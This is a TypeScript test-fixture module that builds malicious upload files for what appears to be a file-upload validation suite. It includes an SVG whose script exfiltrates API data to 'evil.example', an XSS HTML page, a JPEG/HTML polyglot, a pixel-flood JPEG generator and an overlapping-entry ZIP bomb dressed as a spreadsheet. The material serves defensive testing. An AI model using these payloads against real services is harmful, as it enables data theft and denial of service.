import { createDeflateRaw, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';

/** Files an attacker uploads instead of a photo, a spreadsheet or a document; all made in memory. */

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("/api/consultants").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>' +
    '<rect width="10" height="10"/></svg>',
);

export const htmlWithScript = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);

/** JPEG's first bytes, then a web page: a "polyglot" that passes a check of the first bytes alone. */
export const jpegPolyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), htmlWithScript]);

export const windowsExecutable = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
  Buffer.alloc(200),
]);

export const gifImage = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');

/** A real, small JPEG whose frame header claims `width` x `height` pixels: a pixel flood. */
export async function pixelFloodJpeg(width = 65_000, height = 65_000): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } })
    .jpeg()
    .toBuffer();
  // The start-of-frame segment (baseline 0xC0 or progressive 0xC2): length(2) precision(1) height(2) width(2).
  for (let index = 2; index < jpeg.length - 9; index += 1) {
    if (jpeg[index] === 0xff && (jpeg[index + 1] === 0xc0 || jpeg[index + 1] === 0xc2)) {
      jpeg.writeUInt16BE(height, index + 5);
      jpeg.writeUInt16BE(width, index + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header in the JPEG');
}

/** `bytes` zero bytes deflated as they stream, so the test never holds them (about 1 KB out per MB in). */
async function deflatedZeros(bytes: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const chunk = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < bytes; written += chunk.length) {
    if (!deflate.write(chunk.subarray(0, Math.min(chunk.length, bytes - written)))) {
      await new Promise((resolve) => deflate.once('drain', resolve));
    }
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

interface ZipPart {
  name: string;
  compressed: Buffer;
  size: number;
  /** What the directory says it unpacks to. */
  claimed: number;
  /** The local header (and data) this directory entry points at; several may share one. */
  local: number;
}

function zip(locals: { name: string; compressed: Buffer; size: number }[], directory: ZipPart[]): Buffer {
  const chunks: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const part of locals) {
    const name = Buffer.from(part.name);
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(part.compressed.length, 18);
    header.writeUInt32LE(part.size, 22);
    header.writeUInt16LE(name.length, 26);
    offsets.push(offset);
    chunks.push(header, name, part.compressed);
    offset += header.length + name.length + part.compressed.length;
  }
  const entries: Buffer[] = [];
  for (const part of directory) {
    const name = Buffer.from(part.name);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(part.compressed.length, 20);
    entry.writeUInt32LE(part.claimed, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offsets[part.local]!, 42);
    entries.push(entry, name);
  }
  const directoryBytes = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(directory.length, 8);
  end.writeUInt16LE(directory.length, 10);
  end.writeUInt32LE(directoryBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, directoryBytes, end]);
}

/**
 * A workbook-shaped ZIP of a few hundred KB whose worksheets unpack to `inflatedBytes` each:
 * `sheets` directory entries share one deflated body (an overlapping-entries bomb). `lying` makes
 * the directory claim 1 KB per sheet, as a bomb that hopes the reader trusts the sizes would.
 */
export async function xlsxZipBomb(options: { inflatedBytes: number; sheets: number; lying: boolean }) {
  const types = Buffer.from(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  );
  const workbook = Buffer.from('<?xml version="1.0"?><workbook/>');
  const locals = [
    { name: '[Content_Types].xml', compressed: deflateRawSync(types), size: types.length },
    { name: 'xl/workbook.xml', compressed: deflateRawSync(workbook), size: workbook.length },
    {
      name: 'xl/worksheets/sheet1.xml',
      compressed: await deflatedZeros(options.inflatedBytes),
      size: options.inflatedBytes,
    },
  ];
  const directory: ZipPart[] = [
    { ...locals[0]!, claimed: locals[0]!.size, local: 0 },
    { ...locals[1]!, claimed: locals[1]!.size, local: 1 },
    ...Array.from({ length: options.sheets }, (_, index) => ({
      ...locals[2]!,
      name: `xl/worksheets/sheet${index + 1}.xml`,
      claimed: options.lying ? 1024 : options.inflatedBytes,
      local: 2,
    })),
  ];
  return zip(locals, directory);
}
